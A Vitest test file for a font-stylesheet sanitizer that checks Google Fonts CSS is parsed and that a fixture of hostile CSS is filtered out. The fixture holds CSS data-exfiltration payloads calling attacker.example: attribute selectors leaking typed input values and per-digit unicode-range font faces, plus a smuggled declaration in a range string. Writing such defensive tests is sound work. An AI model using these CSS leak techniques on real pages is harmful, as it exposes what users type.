import { describe, expect, it } from 'vitest';
import { fontFacesFromCss, isSafeUnicodeRange } from './font-css.js';
import { MAX_FONT_CSS_LENGTH } from './fonts.js';

/** What Google Fonts serves for a family, trimmed to two subsets. */
const GOOGLE = `
/* latin-ext */
@font-face {
  font-family: 'Inter';
  font-style: normal;
  font-weight: 400;
  font-display: swap;
  src: url(https://fonts.gstatic.com/s/inter/v13/latin-ext.woff2) format('woff2');
  unicode-range: U+0100-02AF, U+0304, U+0308, U+0329, U+1E00-1E9F, U+1EF2-1EFF, U+2020, U+20A0-20AB, U+20AD-20C0, U+2113, U+2C60-2C7F, U+A720-A7FF;
}
/* latin */
@font-face {
  font-family: 'Inter';
  font-style: normal;
  font-weight: 400;
  font-display: swap;
  src: url(https://fonts.gstatic.com/s/inter/v13/latin.woff2) format('woff2');
  unicode-range: U+0000-00FF, U+0131, U+0152-0153, U+02BB-02BC, U+02C6, U+02DA, U+02DC, U+0304, U+0308, U+0329, U+2000-206F, U+2074, U+20AC, U+2122, U+2191, U+2193, U+2212, U+2215, U+FEFF, U+FFFD;
}`;

/** What an attacker would serve: selectors on typed values, and a face per digit. */
const HOSTILE = `
@import url(https://attacker.example/more.css);
input[name="number"][value^="4"] { background: url(https://attacker.example/leak/4); }
@font-face { font-family: Spy; src: url(https://attacker.example/leak/digit-4); unicode-range: U+0034; }
@font-face { font-family: Spy; src: url(https://attacker.example/leak/digits); unicode-range: U+0030-0039; }
@font-face { font-family: "Odd}Name"; src: url(https://attacker.example/a.woff2); }
@font-face { font-family: Loud; src: url(https://attacker.example/b.woff2); font-weight: 400; color: red; }
@media screen { @font-face { font-family: Nested; src: url(https://attacker.example/nested.woff2); } }
@font-face { font-family: Plain; src: url(http://attacker.example/insecure.woff2); }
@font-face { font-family: Wide; src: url(https://attacker.example/c.woff2); font-weight: 400 bolder; }
`;

describe('fontFacesFromCss', () => {
  it("reads Google Fonts' stylesheet into faces with every descriptor", () => {
    expect(fontFacesFromCss(GOOGLE)).toEqual([
      {
        family: 'Inter',
        style: 'normal',
        weight: '400',
        display: 'swap',
        sources: [
          { type: 'url', value: 'https://fonts.gstatic.com/s/inter/v13/latin-ext.woff2', format: 'woff2' },
        ],
        unicodeRange: expect.stringMatching(/^U\+0100-02AF/),
      },
      {
        family: 'Inter',
        style: 'normal',
        weight: '400',
        display: 'swap',
        sources: [
          { type: 'url', value: 'https://fonts.gstatic.com/s/inter/v13/latin.woff2', format: 'woff2' },
        ],
        unicodeRange: expect.stringMatching(/^U\+0000-00FF/),
      },
    ]);
  });

  it('keeps only the top-level faces whose every descriptor is allowed; no selector, import or rule survives', () => {
    // Loud's unknown `color` is ignored (not a descriptor); the per-digit faces, the nested face,
    // the odd family name, the http: source and the bad weight are each left out.
    expect(fontFacesFromCss(HOSTILE)).toEqual([
      {
        family: 'Loud',
        weight: '400',
        sources: [{ type: 'url', value: 'https://attacker.example/b.woff2' }],
      },
    ]);
  });

  it('reads nothing from a stylesheet over the size it reads, or from unterminated text', () => {
    const face = '@font-face { font-family: A; src: url(https://a.example/a.woff2); }';
    expect(fontFacesFromCss(face + ' '.repeat(MAX_FONT_CSS_LENGTH))).toEqual([]);
    expect(fontFacesFromCss('@font-face { font-family: A; src: url(https://a.example/a.woff2);')).toEqual([]);
    expect(fontFacesFromCss(`/* ${'*'.repeat(100_000)}`)).toEqual([]);
    expect(fontFacesFromCss(`${'{'.repeat(100_000)}`)).toEqual([]);
  });
});

describe('isSafeUnicodeRange', () => {
  it.each([
    ['U+0000-00FF', true],
    ['U+0100-024F, U+1E00-1EFF', true],
    ['U+0400-045F', true],
    ['U+00??', true],
    ['U+0020-007E', true],
    ['U+0034', false],
    ['U+0030-0039', false],
    ['U+0021-007E', false],
    ['U+003?', false],
    ['U+0000-00FF, U+0034', true],
    ['U+00FF-0000', true],
    ['not a range', false],
    ['U+0000-00FF; background: red', false],
  ])('%s: %s', (range, safe) => {
    expect(isSafeUnicodeRange(range)).toBe(safe);
  });
});
